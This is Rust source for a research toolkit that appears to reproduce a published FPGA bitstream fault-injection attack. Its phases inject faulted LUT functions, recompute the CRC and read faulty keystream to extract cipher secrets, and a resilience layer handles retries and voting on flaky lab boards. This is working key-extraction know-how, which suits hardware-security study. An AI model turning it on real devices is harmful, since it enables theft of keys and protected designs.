                if z == self.golden_keystream {
                    dead += 1;
                    continue 'hit;
                }
                out.push(LoadMuxHalf { hit: hit.clone(), half, pins: (p, q) });
            }
        }
        Ok((out, dead))
    }

    /// Phase 5: Section VI-D.1 — two keystream computations resolve
    /// every keystream-path LUT's `v` input pair.
    fn disambiguate_pairs(
        &mut self,
        mut z_luts: Vec<ZPathLut>,
        keyindep: &Bitstream,
    ) -> Result<Vec<ZPathLut>, AttackError> {
        let f2 = self.catalogue.shape("f2").expect("f2 shape").clone();
        let mut stuck = Vec::new();
        for variant in &f2.variants[..2] {
            let mut session = EditSession::new(keyindep, self.d);
            for z in &z_luts {
                session.write_function(&z.hit, variant.faulted);
            }
            let zs = self.run_oracle(&session.finish(CrcStrategy::Recompute))?;
            let mut mask = u32::MAX;
            for w in &zs {
                mask &= !w;
            }
            stuck.push(mask); // bit set ⇒ that keystream bit was all-0
        }
        for z in &mut z_luts {
            let bit = z.bit;
            let pair = if (stuck[0] >> bit) & 1 == 1 {
                f2.variants[0].pair
            } else if (stuck[1] >> bit) & 1 == 1 {
                f2.variants[1].pair
            } else {
                f2.variants[2].pair
            };
            z.pair = Some(pair);
        }
        Ok(z_luts)
    }

    /// Phase 6: inject the full `α` (keystream-path `α₂` with the
    /// resolved pairs + feedback-path `α₁`) into a fresh copy of the
    /// golden bitstream, and read the faulty keystream.
    fn extract(
        &mut self,
        z_luts: &[ZPathLut],
        feedback: &[FeedbackLut],
    ) -> Result<(Bitstream, Vec<u32>), AttackError> {
        let f2 = self.catalogue.shape("f2").expect("f2 shape").clone();
        let mut session = EditSession::new(&self.golden, self.d);
        for z in z_luts {
            let pair = z.pair.ok_or(AttackError::PairUnresolved { bit: z.bit })?;
            let variant = f2
                .variants
                .iter()
                .find(|v| v.pair == pair)
                .ok_or(AttackError::PairUnresolved { bit: z.bit })?;
            session.write_function(&z.hit, variant.faulted);
        }
        for f in feedback {
            let shape = self.catalogue.shape(f.shape).expect("catalogue shape");
            if let Some(alpha) = shape.alpha {
                session.write_function(&f.hit, alpha);
            }
        }
        let bs = session.finish(CrcStrategy::Recompute);
        let z = self.run_oracle(&bs)?;
        Ok((bs, z))
    }
}

/// Enumerates all `k`-element subsets of `0..n` (ascending index
/// sets), smallest-lexicographic first.
fn subsets(n: usize, k: usize) -> Vec<Vec<usize>> {
    let mut out = Vec::new();
    let mut cur: Vec<usize> = (0..k).collect();
    if k == 0 {
        return vec![Vec::new()];
    }
    if k > n {
        return out;
    }
    loop {
        out.push(cur.clone());
        // Advance to the next combination.
        let mut i = k;
        loop {
            if i == 0 {
                return out;
            }
            i -= 1;
            if cur[i] != i + n - k {
                break;
            }
            if i == 0 {
                return out;
            }
        }
        cur[i] += 1;
        for j in i + 1..k {
            cur[j] = cur[j - 1] + 1;
        }
    }
}

/// Checks the Section VI-C.1 signature: exactly one keystream bit is
/// stuck at 0 while every other bit matches the golden keystream.
/// Returns the stuck bit.
#[must_use]
pub fn stuck_bit(z: &[u32], golden: &[u32]) -> Option<u8> {
    if z.len() != golden.len() || z.is_empty() {
        return None;
    }
    let mut all_zero = u32::MAX;
    let mut differs = 0u32;
    for (a, b) in z.iter().zip(golden) {
        all_zero &= !a;
        differs |= a ^ b;
    }
    // The stuck bit must be all-zero now, must have been live in the
    // golden keystream, and must be the only differing bit.
    let golden_live = {
        let mut live = 0u32;
        for w in golden {
            live |= w;
        }
        live
    };
    let candidates = all_zero & golden_live & differs;
    if candidates.count_ones() == 1 && differs == candidates {
        Some(candidates.trailing_zeros() as u8)
    } else {
        None
    }
}

/// Recognises a 5-variable half that is exactly `x ∨ y` for a pin
/// pair `(x, y)`; returns the (1-based) pair.
fn or_pair(t: TruthTable) -> Option<(u8, u8)> {
    let support = t.support();
    if support.count_ones() != 2 {
        return None;
    }
    let x = support.trailing_zeros() as u8 + 1;
    let y = 8 - support.leading_zeros() as u8;
    let want = TruthTable::var(5, x).or(TruthTable::var(5, y));
    (t == want).then_some((x, y))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stuck_bit_detects_single_dead_bit() {
        let golden = vec![0xFFFF_FFFFu32; 4];
        let z: Vec<u32> = golden.iter().map(|w| w & !(1 << 7)).collect();
        assert_eq!(stuck_bit(&z, &golden), Some(7));
    }

    #[test]
    fn stuck_bit_rejects_multiple_changes() {
        let golden = vec![0xFFFF_FFFFu32; 4];
        let z: Vec<u32> = golden.iter().map(|w| w & !(1 << 7) & !(1 << 9)).collect();
        assert_eq!(stuck_bit(&z, &golden), None);
    }

    #[test]
    fn stuck_bit_rejects_unchanged() {
        let golden = vec![0x1234_5678u32; 4];
        assert_eq!(stuck_bit(&golden, &golden), None);
    }

    #[test]
    fn stuck_bit_requires_live_golden_bit() {
        // If the golden keystream never had that bit set, it carries
        // no information.
        let golden = vec![0xFFFF_FFFEu32; 4];
        let z = golden.clone();
        assert_eq!(stuck_bit(&z, &golden), None);
    }

    #[test]
    fn lattice_inference_and_acceptance() {
        use bitstream::SubVectorOrder::{SliceL, SliceM};
        // True sites: frames 0, 12, 24 (modulus 12), even offsets,
        // alternating orders by column parity.
        let d = 404usize;
        let samples: Vec<(usize, bitstream::SubVectorOrder)> = vec![
            (10, SliceL),
            (44, SliceL),
            (12 * d + 8, SliceM),
            (12 * d + 70, SliceM),
            (24 * d + 2, SliceL),
        ];
        let lat = SiteLattice::infer(&samples, d);
        assert!(lat.accepts(12 * d + 100));
        assert!(!lat.accepts(13 * d + 100), "off-lattice frame rejected");
        assert!(!lat.accepts(12 * d + 101), "odd offset rejected");
        assert!(lat.accepts_order(0, SliceL));
        assert!(!lat.accepts_order(0, SliceM));
        assert!(lat.accepts_order(12 * d, SliceM));
    }

    #[test]
    fn lattice_tolerates_outliers() {
        use bitstream::SubVectorOrder::SliceL;
        let d = 404usize;
        // Nine aligned samples and one misaligned (frame 7).
        let mut samples: Vec<(usize, bitstream::SubVectorOrder)> =
            (0..9).map(|i| (i * 12 * d + 2 * i, SliceL)).collect();
        samples.push((7 * d + 6, SliceL));
        let lat = SiteLattice::infer(&samples, d);
        assert!(lat.accepts(36 * d), "true sites still accepted");
        assert!(!lat.accepts(7 * d + 6), "the outlier itself is rejected");
    }

    #[test]
    fn lattice_tolerates_parity_outliers() {
        use bitstream::SubVectorOrder::SliceL;
        let d = 404usize;
        // Nine even-offset samples and one odd-offset coincidence: a
        // single misaligned window that verified by accident must not
        // disable the lattice (it once did, leaving the d=101 family
        // with 39 feedback candidates and an intractable drop search).
        let mut samples: Vec<(usize, bitstream::SubVectorOrder)> =
            (0..9).map(|i| (i * 4 * d + 2 * i, SliceL)).collect();
        samples.push((7 * d + 9, SliceL));
        let lat = SiteLattice::infer(&samples, d);
        assert!(lat.accepts(16 * d + 2), "true sites still accepted");
        assert!(!lat.accepts(16 * d + 3), "odd offsets rejected");
        assert!(!lat.accepts(7 * d + 9), "the parity outlier itself is rejected");
    }

    #[test]
    fn lattice_degrades_gracefully() {
        use bitstream::SubVectorOrder::SliceL;
        // A single sample gives no stride information: permissive.
        let lat = SiteLattice::infer(&[(808, SliceL)], 404);
        assert!(lat.accepts(808));
        assert!(lat.accepts(1212));
        // Mixed parity disables everything.
        let lat = SiteLattice::infer(&[(0, SliceL), (1, SliceL)], 404);
        assert!(lat.accepts(3));
        // No samples at all.
        let lat = SiteLattice::infer(&[], 404);
        assert!(lat.accepts(12345));
    }

    #[test]
    fn subsets_enumeration() {
        assert_eq!(subsets(4, 0), vec![Vec::<usize>::new()]);
        assert_eq!(subsets(3, 3), vec![vec![0, 1, 2]]);
        let two_of_four = subsets(4, 2);
        assert_eq!(two_of_four.len(), 6);
        assert_eq!(two_of_four[0], vec![0, 1]);
        assert_eq!(two_of_four[5], vec![2, 3]);
        assert!(subsets(2, 3).is_empty());
    }

    #[test]
    fn or_pair_recognition() {
        let t = TruthTable::var(5, 2).or(TruthTable::var(5, 5));
        assert_eq!(or_pair(t), Some((2, 5)));
        let not_or = TruthTable::var(5, 2).xor(TruthTable::var(5, 5));
        assert_eq!(or_pair(not_or), None);
        let three = t.or(TruthTable::var(5, 1));
        assert_eq!(or_pair(three), None);
    }
}
