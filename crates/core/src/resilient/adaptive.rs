//! Online fault-rate estimation and the adaptive resilience policy.
//!
//! The fixed `votes`/`retry` settings of a [`ResilienceConfig`]
//! (crate::resilient::ResilienceConfig) must be hand-picked per fault
//! rate (the noise-sweep tables in EXPERIMENTS.md exist to do exactly
//! that), and a fixed pick is wrong twice on a *drifting* or *bursty*
//! board: wasteful while the board is healthy, insufficient once it
//! degrades. This module closes the loop at the oracle chokepoint:
//!
//! * an **EWMA fault-rate estimator** over the per-query effort
//!   deltas the resilient layer already tracks — transient errors
//!   plus outvoted (mismatching) majority ballots, per physical
//!   attempt — in integer milli units so the estimate is exactly
//!   reproducible;
//! * a **hysteresis policy ladder**: the controller escalates to the
//!   next level when the smoothed fault rate crosses
//!   [`ESCALATE_MILLI`] and de-escalates below [`DEESCALATE_MILLI`],
//!   with a cooldown between transitions so one burst cannot make the
//!   policy oscillate. Each level adds two majority votes (keeping
//!   the count odd) and two retry attempts, and doubles the backoff
//!   base;
//! * typed [`PolicyEvent`]s: every transition is recorded (and
//!   journalled with the resilience snapshot), so a resumed run
//!   continues with the same policy and an identical event history,
//!   and telemetry can expose the policy's behaviour without
//!   participating in it.
//!
//! Determinism: the controller consumes only counters the resilient
//! layer derives from the (seeded) query trace, and its state rides
//! in [`ResilientSnapshot`](crate::resilient::ResilientSnapshot).
//! Traced and untraced runs, and killed-and-resumed runs, therefore
//! produce identical `PolicyEvent` sequences (pinned by
//! `tests/adaptive.rs`).

/// Highest policy level. Level L means `votes + 2L` majority votes
/// and `max_attempts + 2L` retry attempts per read, with the backoff
/// base doubled L times.
pub const MAX_LEVEL: u8 = 3;

/// Escalate when the smoothed fault rate exceeds this (milli units:
/// 180 = 0.18 faults per physical attempt).
pub const ESCALATE_MILLI: u32 = 180;

/// De-escalate when the smoothed fault rate falls below this.
pub const DEESCALATE_MILLI: u32 = 60;

/// Queries to wait after a transition before the next one (hysteresis
/// against oscillation on bursty boards).
pub const COOLDOWN_QUERIES: u32 = 8;

/// EWMA smoothing: `ewma += (sample - ewma) >> ALPHA_SHIFT`, i.e.
/// α = 1/8.
pub const ALPHA_SHIFT: u32 = 3;

/// One policy transition, in query-trace coordinates.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PolicyEvent {
    /// Logical query index (0-based) whose completion triggered the
    /// transition.
    pub at_query: u64,
    /// Level before the transition.
    pub from_level: u8,
    /// Level after the transition.
    pub to_level: u8,
    /// The smoothed fault rate (milli units) at the transition.
    pub ewma_milli: u32,
}

impl PolicyEvent {
    /// Whether this transition raised the level.
    #[must_use]
    pub fn is_escalation(&self) -> bool {
        self.to_level > self.from_level
    }
}

/// The online policy controller: EWMA estimator plus hysteresis
/// ladder plus event history.
///
/// Fields are public so the crash-safe journal codec can persist and
/// restore the controller verbatim; mutate through
/// [`PolicyController::observe`] in normal operation.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PolicyController {
    /// Smoothed fault rate in milli units (faults per physical
    /// attempt × 1000), clamped to `0..=1000`.
    pub ewma_milli: u32,
    /// Current policy level, `0..=MAX_LEVEL`.
    pub level: u8,
    /// Queries remaining before another transition is allowed.
    pub cooldown: u32,
    /// Every transition so far, in query order.
    pub events: Vec<PolicyEvent>,
}

impl PolicyController {
    /// A controller at level 0 with an empty history.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// The current policy level.
    #[must_use]
    pub fn level(&self) -> u8 {
        self.level
    }

    /// The smoothed fault-rate estimate, in milli units.
    #[must_use]
    pub fn ewma_milli(&self) -> u32 {
        self.ewma_milli
    }

    /// Every transition so far, in query order.
    #[must_use]
    pub fn events(&self) -> &[PolicyEvent] {
        &self.events
    }

    /// Feeds one completed query's fault-rate sample (milli units;
    /// clamped to 1000) into the estimator and applies the hysteresis
    /// ladder. Returns the transition, if one fired.
    pub fn observe(&mut self, at_query: u64, sample_milli: u32) -> Option<PolicyEvent> {
        let sample = sample_milli.min(1000);
        let delta = i64::from(sample) - i64::from(self.ewma_milli);
        // Arithmetic shift: negative deltas round toward −∞, so the
        // estimate decays all the way to a clean board's 0.
        let next = i64::from(self.ewma_milli) + (delta >> ALPHA_SHIFT);
        self.ewma_milli = u32::try_from(next.clamp(0, 1000)).expect("clamped");
        if self.cooldown > 0 {
            self.cooldown -= 1;
            return None;
        }
        let to_level = if self.ewma_milli >= ESCALATE_MILLI && self.level < MAX_LEVEL {
            self.level + 1
        } else if self.ewma_milli <= DEESCALATE_MILLI && self.level > 0 {
            self.level - 1
        } else {
            return None;
        };
        let event =
            PolicyEvent { at_query, from_level: self.level, to_level, ewma_milli: self.ewma_milli };
        self.level = to_level;
        self.cooldown = COOLDOWN_QUERIES;
        self.events.push(event);
        Some(event)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_quiet_board_never_transitions() {
        let mut c = PolicyController::new();
        for q in 0..100 {
            assert_eq!(c.observe(q, 0), None);
        }
        assert_eq!(c.level(), 0);
        assert!(c.events().is_empty());
    }

    #[test]
    fn sustained_faults_escalate_with_hysteresis() {
        let mut c = PolicyController::new();
        let mut transitions = Vec::new();
        for q in 0..200 {
            if let Some(e) = c.observe(q, 1000) {
                transitions.push(e);
            }
        }
        assert_eq!(c.level(), MAX_LEVEL, "saturates at the top level");
        assert_eq!(transitions.len(), usize::from(MAX_LEVEL), "one step per rung");
        assert!(transitions.iter().all(PolicyEvent::is_escalation));
        // Cooldown spaces the transitions out.
        for pair in transitions.windows(2) {
            assert!(pair[1].at_query - pair[0].at_query > u64::from(COOLDOWN_QUERIES));
        }
        assert_eq!(c.events(), transitions.as_slice());
    }

    #[test]
    fn recovery_de_escalates_back_to_zero() {
        let mut c = PolicyController::new();
        for q in 0..60 {
            c.observe(q, 1000);
        }
        let top = c.level();
        assert!(top > 0);
        for q in 60..400 {
            c.observe(q, 0);
        }
        assert_eq!(c.level(), 0, "a recovered board sheds the extra effort");
        assert_eq!(c.ewma_milli(), 0, "the estimate decays fully");
        let escalations = c.events().iter().filter(|e| e.is_escalation()).count();
        let de_escalations = c.events().iter().filter(|e| !e.is_escalation()).count();
        assert_eq!(escalations, usize::from(top));
        assert_eq!(de_escalations, usize::from(top));
    }

    #[test]
    fn the_band_between_thresholds_is_stable() {
        // A rate between the two thresholds must neither escalate nor
        // de-escalate — that band is the hysteresis.
        let mid = (ESCALATE_MILLI + DEESCALATE_MILLI) / 2;
        let mut c = PolicyController::new();
        for q in 0..300 {
            c.observe(q, mid);
        }
        assert_eq!(c.level(), 0, "never escalates from below the high threshold");
        for q in 0..60 {
            c.observe(300 + q, 1000);
        }
        let level = c.level();
        assert!(level > 0);
        let events_before = c.events().len();
        for q in 0..300 {
            c.observe(400 + q, mid);
        }
        assert_eq!(c.level(), level, "never de-escalates from above the low threshold");
        assert_eq!(c.events().len(), events_before);
    }

    #[test]
    fn controller_state_is_a_pure_function_of_the_sample_stream() {
        let feed = |samples: &[u32]| {
            let mut c = PolicyController::new();
            for (q, &s) in samples.iter().enumerate() {
                c.observe(q as u64, s);
            }
            c
        };
        let samples: Vec<u32> = (0..120).map(|i| if i % 7 < 3 { 900 } else { 40 }).collect();
        assert_eq!(feed(&samples), feed(&samples), "identical streams, identical state");
    }
}
