//! Surviving a flaky board: retry, backoff, majority voting and a
//! query budget between the attack and the oracle.
//!
//! The paper's attack assumes every *load bitstream / read keystream*
//! query succeeds and returns the true keystream. A real lab board
//! does not cooperate: loads transiently fail, the configuration port
//! times out, readback glitches bits and truncates transfers, glitch
//! rates burst and drift, and boards die outright (the fault classes
//! modelled by `fpga_sim::UnreliableBoard`). This module wraps any
//! [`KeystreamOracle`] in a resilience layer:
//!
//! * **retry with exponential backoff** — transient errors
//!   ([`OracleError::is_transient`]) are retried up to a configured
//!   attempt count, with seeded jitter so concurrent retries would
//!   not stampede a shared programmer;
//! * **per-bit majority voting** — each logical query performs an odd
//!   number of full reads and takes the bitwise majority. At a 1%
//!   per-bit glitch rate a 512-bit read is almost never entirely
//!   clean, so vote-per-read cannot work; vote-per-*bit* drives the
//!   per-bit error from 10⁻² to ≈10⁻⁵ with 5 reads;
//! * **query budget** — a hard cap on physical oracle attempts.
//!   Exhausting it mid-attack surfaces as a typed
//!   [`ResilienceError::BudgetExhausted`], which the attack driver
//!   converts into a checkpointed partial result;
//! * **virtual clock** — backoff advances a deterministic virtual
//!   clock instead of sleeping, so noisy runs are bit-reproducible
//!   and tests run instantly;
//! * **adaptive policy** ([`adaptive`]) — with
//!   [`ResilienceConfig::with_adaptive`], an online EWMA fault-rate
//!   estimator drives a hysteresis ladder that escalates and
//!   de-escalates votes, retries and backoff as the board degrades
//!   and recovers, emitting typed [`PolicyEvent`]s.
//!
//! Determinism argument: faults come from the board's counter-keyed
//! draws, jitter from this layer's counter-keyed draws (a pure
//! function of `(seed, query index, read ordinal)` — no shared RNG
//! cursor), time from the virtual clock, and the adaptive controller
//! consumes only counters derived from that trace. A fixed
//! (seed, call sequence) pair therefore replays the identical noisy
//! run, a journal resumes it from counters alone, and *batched* noisy
//! queries can be planned speculatively yet produce the bit-identical
//! trace of the serial loop ([`ResilientOracle::query_batch`]).

pub mod adaptive;

use core::fmt;

use rand::rngs::SmallRng;
use rand::Rng;

use bitstream::Bitstream;

use crate::oracle::{KeystreamOracle, OracleError};
use crate::telemetry::Telemetry;

pub use adaptive::{PolicyController, PolicyEvent};

/// A deterministic clock: backoff advances it, nothing sleeps.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct VirtualClock {
    now_ms: u64,
}

impl VirtualClock {
    /// A clock at t = 0.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Milliseconds elapsed on the virtual timeline.
    #[must_use]
    pub fn now_ms(&self) -> u64 {
        self.now_ms
    }

    /// Advances the timeline (saturating).
    pub fn advance(&mut self, ms: u64) {
        self.now_ms = self.now_ms.saturating_add(ms);
    }
}

/// Exponential-backoff retry policy for transient oracle errors.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RetryPolicy {
    /// Physical attempts per read (1 = no retry).
    pub max_attempts: u32,
    /// Backoff before the first retry, in virtual milliseconds.
    pub base_delay_ms: u64,
    /// Backoff ceiling, in virtual milliseconds.
    pub max_delay_ms: u64,
}

impl RetryPolicy {
    /// No retries: the first failure is final.
    #[must_use]
    pub fn none() -> Self {
        Self { max_attempts: 1, base_delay_ms: 0, max_delay_ms: 0 }
    }

    /// The default flaky-board policy: 8 attempts, 10 ms base delay
    /// doubling up to 2 s.
    #[must_use]
    pub fn standard() -> Self {
        Self { max_attempts: 8, base_delay_ms: 10, max_delay_ms: 2_000 }
    }

    /// The backoff before retry number `attempt` (0-based): an
    /// exponential ramp capped at the ceiling, plus up to 50% seeded
    /// jitter.
    fn delay_ms(&self, attempt: u32, rng: &mut SmallRng) -> u64 {
        let ramp = self
            .base_delay_ms
            .saturating_mul(1u64 << attempt.min(20))
            .min(self.max_delay_ms.max(self.base_delay_ms));
        if ramp == 0 {
            return 0;
        }
        ramp + rng.gen_range(0..=ramp / 2)
    }
}

/// How a [`ResilientOracle`] behaves.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ResilienceConfig {
    /// Full keystream reads per logical query; the bitwise majority
    /// wins. Use an odd count — even counts resolve ties toward 0.
    pub votes: u32,
    /// Retry policy for transient errors.
    pub retry: RetryPolicy,
    /// Cap on *physical* oracle attempts across the whole run
    /// (`None` = unlimited).
    pub budget: Option<u64>,
    /// Virtual-clock deadline in milliseconds (`None` = unlimited):
    /// once backoff has advanced the clock past it, further queries
    /// fail with [`ResilienceError::DeadlineExceeded`]. Campaign
    /// cells use this to bound how long a single run may fight a
    /// hostile board.
    pub deadline_ms: Option<u64>,
    /// Seed for the backoff jitter.
    pub seed: u64,
    /// Whether the adaptive policy controller is on: `votes` and
    /// `retry` become the *floor*, and the [`adaptive`] hysteresis
    /// ladder escalates or de-escalates effort with the observed
    /// fault rate.
    pub adaptive: bool,
}

impl ResilienceConfig {
    /// The pass-through configuration: one vote, no retries, no
    /// budget. Against an ideal oracle this is byte-for-byte the
    /// unwrapped behaviour.
    #[must_use]
    pub fn off() -> Self {
        Self {
            votes: 1,
            retry: RetryPolicy::none(),
            budget: None,
            deadline_ms: None,
            seed: 0,
            adaptive: false,
        }
    }

    /// The flaky-board configuration: 5 votes, standard backoff, no
    /// budget, fixed (non-adaptive) policy.
    #[must_use]
    pub fn noisy(seed: u64) -> Self {
        Self { votes: 5, retry: RetryPolicy::standard(), seed, ..Self::off() }
    }

    /// Overrides the vote count.
    #[must_use]
    pub fn with_votes(mut self, votes: u32) -> Self {
        self.votes = votes;
        self
    }

    /// Sets the physical-attempt budget.
    #[must_use]
    pub fn with_budget(mut self, budget: u64) -> Self {
        self.budget = Some(budget);
        self
    }

    /// Overrides the retry policy.
    #[must_use]
    pub fn with_retry(mut self, retry: RetryPolicy) -> Self {
        self.retry = retry;
        self
    }

    /// Sets the virtual-clock deadline.
    #[must_use]
    pub fn with_deadline_ms(mut self, deadline_ms: u64) -> Self {
        self.deadline_ms = Some(deadline_ms);
        self
    }

    /// Turns the adaptive policy controller on.
    #[must_use]
    pub fn with_adaptive(mut self) -> Self {
        self.adaptive = true;
        self
    }

    /// Whether two configurations drive the *same* noisy trace: the
    /// vote count, retry policy, jitter seed and adaptive flag
    /// determine every draw, backoff and policy decision, while
    /// `budget` and `deadline_ms` only decide where a run is cut
    /// short. A journal may therefore be resumed under a raised
    /// budget or deadline, but never under a different
    /// trace-determining configuration.
    #[must_use]
    pub fn same_trace(&self, other: &Self) -> bool {
        self.votes == other.votes
            && self.retry == other.retry
            && self.seed == other.seed
            && self.adaptive == other.adaptive
    }
}

/// A resilience-layer failure.
#[derive(Debug)]
#[non_exhaustive]
pub enum ResilienceError {
    /// The physical-attempt budget ran out. The attack driver turns
    /// this into a checkpointed partial result.
    BudgetExhausted {
        /// Attempts performed.
        used: u64,
        /// The configured cap.
        limit: u64,
    },
    /// The virtual-clock deadline passed. Like a budget cut, the
    /// attack driver turns this into a checkpointed partial result.
    DeadlineExceeded {
        /// The virtual timeline position.
        now_ms: u64,
        /// The configured deadline.
        limit_ms: u64,
    },
    /// Every allowed attempt of one read failed transiently.
    RetriesExhausted {
        /// Attempts performed for this read.
        attempts: u32,
        /// The last transient error observed.
        last: OracleError,
    },
    /// A non-transient oracle error; retrying cannot help.
    Fatal(OracleError),
    /// The side-channel trace budget of an encrypted session is too
    /// small to recover `K_E`: the golden container cannot be opened,
    /// so the attack cannot even start. Like a budget cut, the attack
    /// driver turns this into a checkpointed partial result — rerun
    /// with a raised trace budget to proceed.
    ScaTracesExhausted {
        /// Power traces the session was allowed to collect.
        collected: u32,
        /// Traces the side-channel attack needs for key recovery.
        needed: u32,
    },
}

impl fmt::Display for ResilienceError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ResilienceError::BudgetExhausted { used, limit } => {
                write!(f, "oracle query budget exhausted ({used}/{limit} attempts)")
            }
            ResilienceError::DeadlineExceeded { now_ms, limit_ms } => {
                write!(f, "virtual-clock deadline exceeded ({now_ms} ms of {limit_ms} ms allowed)")
            }
            ResilienceError::RetriesExhausted { attempts, last } => {
                write!(f, "read still failing after {attempts} attempts: {last}")
            }
            ResilienceError::Fatal(e) => write!(f, "unrecoverable oracle error: {e}"),
            ResilienceError::ScaTracesExhausted { collected, needed } => {
                write!(
                    f,
                    "side-channel trace budget exhausted ({collected}/{needed} traces): \
                     K_E not recovered, container cannot be opened"
                )
            }
        }
    }
}

impl std::error::Error for ResilienceError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            ResilienceError::BudgetExhausted { .. }
            | ResilienceError::DeadlineExceeded { .. }
            | ResilienceError::ScaTracesExhausted { .. } => None,
            ResilienceError::RetriesExhausted { last, .. } => Some(last),
            ResilienceError::Fatal(e) => Some(e),
        }
    }
}

/// Effort and fault counters for one resilient run.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ResilientStats {
    /// Logical queries served.
    pub queries: u64,
    /// Physical oracle attempts (what the budget caps).
    pub attempts: u64,
    /// Successful full reads (majority-vote ballots).
    pub votes_cast: u64,
    /// Transient errors absorbed by retry.
    pub transient_errors: u64,
    /// Virtual milliseconds spent backing off.
    pub backoff_ms: u64,
}

/// The complete mutable state of a [`ResilientOracle`], for
/// crash-safe journals. Restoring it (with the *same* trace-relevant
/// [`ResilienceConfig`], see [`ResilienceConfig::same_trace`]) makes
/// the resumed layer produce the identical stream of jitter draws,
/// backoff delays, policy decisions and stats a never-interrupted run
/// would have. There is no RNG state here: jitter is a pure function
/// of `(seed, query index, read ordinal)`, so the counters pin the
/// resume point by themselves.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ResilientSnapshot {
    /// Effort counters at the snapshot point.
    pub stats: ResilientStats,
    /// Virtual-clock position, in milliseconds.
    pub clock_ms: u64,
    /// Adaptive-policy controller state (level 0 with an empty
    /// history on non-adaptive runs).
    pub policy: PolicyController,
}

/// A [`KeystreamOracle`] front-end that retries, votes and meters.
pub struct ResilientOracle<'a> {
    inner: &'a dyn KeystreamOracle,
    config: ResilienceConfig,
    clock: VirtualClock,
    stats: ResilientStats,
    policy: PolicyController,
    /// Inert observer: records per-query effort deltas *after* each
    /// query completes. Never consulted for control flow, never
    /// influences a draw, never advances the clock — so an
    /// instrumented run replays the identical query trace (see
    /// `telemetry`).
    telemetry: Telemetry,
}

impl fmt::Debug for ResilientOracle<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "ResilientOracle(votes: {}, attempts: {}/{:?}, t: {} ms, level: {})",
            self.config.votes,
            self.stats.attempts,
            self.config.budget,
            self.clock.now_ms(),
            self.policy.level(),
        )
    }
}

impl<'a> ResilientOracle<'a> {
    /// Wraps an oracle in the resilience layer.
    #[must_use]
    pub fn new(inner: &'a dyn KeystreamOracle, config: ResilienceConfig) -> Self {
        Self {
            inner,
            config,
            clock: VirtualClock::new(),
            stats: ResilientStats::default(),
            policy: PolicyController::new(),
            telemetry: Telemetry::off(),
        }
    }

    /// Rebuilds a resilience layer mid-run from a journal snapshot.
    /// `config` may raise the budget or deadline relative to the run
    /// that produced `snap`, but must drive the same trace
    /// ([`ResilienceConfig::same_trace`]) — the caller enforces that.
    #[must_use]
    pub fn from_snapshot(
        inner: &'a dyn KeystreamOracle,
        config: ResilienceConfig,
        snap: &ResilientSnapshot,
    ) -> Self {
        let mut clock = VirtualClock::new();
        clock.advance(snap.clock_ms);
        Self {
            inner,
            config,
            clock,
            stats: snap.stats,
            policy: snap.policy.clone(),
            telemetry: Telemetry::off(),
        }
    }

    /// Installs a telemetry recorder. Recording is observation only —
    /// the query trace is bit-identical with telemetry on or off.
    pub fn set_telemetry(&mut self, telemetry: Telemetry) {
        self.telemetry = telemetry;
    }

    /// The installed telemetry handle (disabled by default).
    #[must_use]
    pub fn telemetry(&self) -> &Telemetry {
        &self.telemetry
    }

    /// The full mutable state, for crash-safe journals.
    #[must_use]
    pub fn snapshot(&self) -> ResilientSnapshot {
        ResilientSnapshot {
            stats: self.stats,
            clock_ms: self.clock.now_ms(),
            policy: self.policy.clone(),
        }
    }

    /// The wrapped oracle (e.g. for journalling its device state).
    #[must_use]
    pub fn inner(&self) -> &dyn KeystreamOracle {
        self.inner
    }

    /// The active configuration.
    #[must_use]
    pub fn config(&self) -> &ResilienceConfig {
        &self.config
    }

    /// Effort counters so far.
    #[must_use]
    pub fn stats(&self) -> ResilientStats {
        self.stats
    }

    /// The adaptive policy controller (level 0 and inert unless
    /// [`ResilienceConfig::with_adaptive`] is set).
    #[must_use]
    pub fn policy(&self) -> &PolicyController {
        &self.policy
    }

    /// The virtual timeline (advanced by backoff only).
    #[must_use]
    pub fn clock(&self) -> &VirtualClock {
        &self.clock
    }

    /// Physical attempts still allowed (`None` = unlimited).
    #[must_use]
    pub fn remaining_budget(&self) -> Option<u64> {
        self.config.budget.map(|limit| limit.saturating_sub(self.stats.attempts))
    }

    /// The jitter generator for read `ordinal` of logical query `q` —
    /// a pure function of the key, so draws are order-free across
    /// queries and resumable from counters alone.
    fn jitter_rng(&self, q: u64, ordinal: u64) -> SmallRng {
        rand::counter_rng(self.config.seed, q, ordinal)
    }

    /// Majority votes per logical query under the current policy
    /// level (the configured count is the floor; each adaptive level
    /// adds two, keeping an odd count odd).
    fn effective_votes(&self) -> u32 {
        let base = self.config.votes.max(1);
        if self.config.adaptive {
            base + 2 * u32::from(self.policy.level())
        } else {
            base
        }
    }

    /// The retry policy under the current policy level (each adaptive
    /// level adds two attempts and doubles the backoff base, capped
    /// at the ceiling).
    fn effective_retry(&self) -> RetryPolicy {
        let mut p = self.config.retry;
        if self.config.adaptive && self.policy.level() > 0 {
            let level = self.policy.level();
            p.max_attempts = p.max_attempts.max(1) + 2 * u32::from(level);
            p.base_delay_ms = (p.base_delay_ms << level).min(p.max_delay_ms.max(p.base_delay_ms));
        }
        p
    }

    /// Feeds one *completed* query's fault sample into the adaptive
    /// controller: transient errors plus outvoted ballots, per
    /// physical attempt, in milli units. Failed (budget- or
    /// deadline-cut) queries are never observed — they are re-issued
    /// verbatim after a resume, so observing them would make a
    /// killed-and-resumed run diverge from an uninterrupted one.
    fn observe_query(&mut self, q: u64, mismatches: u64, before: ResilientStats) {
        if !self.config.adaptive {
            return;
        }
        let attempts = self.stats.attempts - before.attempts;
        if attempts == 0 {
            return;
        }
        let faults = (self.stats.transient_errors - before.transient_errors) + mismatches;
